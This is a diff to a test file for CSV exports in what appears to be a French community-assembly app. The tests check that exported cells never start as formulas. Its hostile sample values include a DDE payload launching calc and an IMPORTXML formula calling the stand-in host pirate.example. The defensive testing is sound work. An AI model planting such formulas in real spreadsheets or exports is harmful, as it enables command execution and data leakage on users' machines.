@@ -25,6 +25,10 @@ HOSTILE = {
     "name": "=cmd|' /C calc'!A0",
     "building": "@Bâtiment B",
     "languages": "+wolof",
+    "comment": "-1 pour moi",
+    "rewrite": '=IMPORTXML("http://pirate.example";"//a")',
+    "signed": "@Awa",
+    "answer_reason": "+ d’infos à la prochaine assemblée",
 }
 
 
@@ -49,7 +53,8 @@ def test_a_cell_that_would_start_a_formula_is_written_as_text(value, cell):
 
 
 def hostile_records(app, world, clock) -> None:
-    """A need, a settled majority judgment and a person whose every exported text is hostile."""
+    """A need, a settled majority judgment, a person and a contribution to a consultation
+    whose every exported text is hostile."""
     from assembly.auth.models import User
     from assembly.decisions.models import Grade, Method
     from assembly.decisions.operations.core import close_due
@@ -101,6 +106,30 @@ def hostile_records(app, world, clock) -> None:
                 languages=HOSTILE["languages"],
             )
         )
+        from assembly.consultations.models import (
+            Consultation,
+            Contribution,
+            ContributionType,
+            TeamAnswer,
+        )
+
+        consultation = db.session.scalar(
+            db.select(Consultation).filter_by(
+                group_id=group.id, number=world.args["consultation_number"]
+            )
+        )
+        db.session.add(
+            Contribution(
+                consultation_id=consultation.id,
+                paragraph_id=world.args["paragraph_id"],
+                kind=ContributionType.AMENDMENT,
+                text=HOSTILE["comment"],
+                rewrite=HOSTILE["rewrite"],
+                author_name=HOSTILE["signed"],
+                answer=TeamAnswer.NOT_KEPT,
+                answer_reason=HOSTILE["answer_reason"],
+            )
+        )
         db.session.commit()
 
 
@@ -135,6 +164,7 @@ def test_no_csv_cell_starts_a_formula_whatever_residents_typed(app, world, clien
         "needs.export_csv": ("title", "body", "place", "theme", "author_name", "contact"),
         "decisions.export_csv": ("question", "option"),
         "people.export_csv": ("name", "building", "languages"),
+        "consultations.contributions_csv": ("comment", "rewrite", "signed", "answer_reason"),
     }
     for endpoint, fields in expected.items():
         for field in fields:
